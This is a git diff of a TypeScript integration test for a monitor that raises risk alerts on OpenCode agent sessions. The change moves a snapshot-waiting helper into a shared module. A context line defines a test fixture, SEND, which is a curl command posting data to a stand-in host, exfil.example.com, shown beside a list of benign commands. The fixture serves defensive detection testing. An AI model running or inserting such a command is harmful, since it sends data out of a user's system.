@@ -18,6 +18,7 @@ import type { Monitor } from '../../src/core/monitor/monitor';
 import type { MonitorSnapshot, SessionModel } from '../../src/core/model/model';
 import { createLab, createSession, promptAsync } from '../harness/opencodeLab';
 import type { Lab, LabServer } from '../harness/opencodeLab';
+import { untilSnapshot } from '../harness/untilSnapshot';
 
 const T = 45_000;
 const cli = resolve(__dirname, '../../../dist/cli.js');
@@ -31,22 +32,7 @@ const SEND = 'curl -s --max-time 2 --resolve exfil.example.com:443:127.0.0.1 -d 
 const BENIGN = ['ls -la', 'git status', 'head -n 3 README.md', 'npm --version', 'node -e 1', 'echo built'];
 
 function until<T>(monitor: Monitor, test: (s: MonitorSnapshot) => T | undefined | false, label: string, timeoutMs = T): Promise<T> {
-  return new Promise((resolve, reject) => {
-    const check = () => {
-      const value = test(monitor.snapshot());
-      if (!value) return;
-      clearTimeout(timer);
-      subscription.dispose();
-      resolve(value);
-    };
-    const timer = setTimeout(() => {
-      subscription.dispose();
-      const snap = monitor.snapshot();
-      reject(new Error(`timed out waiting for ${label}; sessions: ${snap.sessions.map((s) => `${s.title}=${s.status}${s.riskAlert ? '+alert' : ''}`).join(', ')}`));
-    }, timeoutMs);
-    const subscription = monitor.onDidChange(check);
-    check();
-  });
+  return untilSnapshot(monitor, test, label, timeoutMs, (snap) => `sessions: ${snap.sessions.map((s) => `${s.title}=${s.status}${s.riskAlert ? '+alert' : ''}`).join(', ')}`);
 }
 
 describe('live risk with a real OpenCode server', { timeout: 300_000 }, () => {
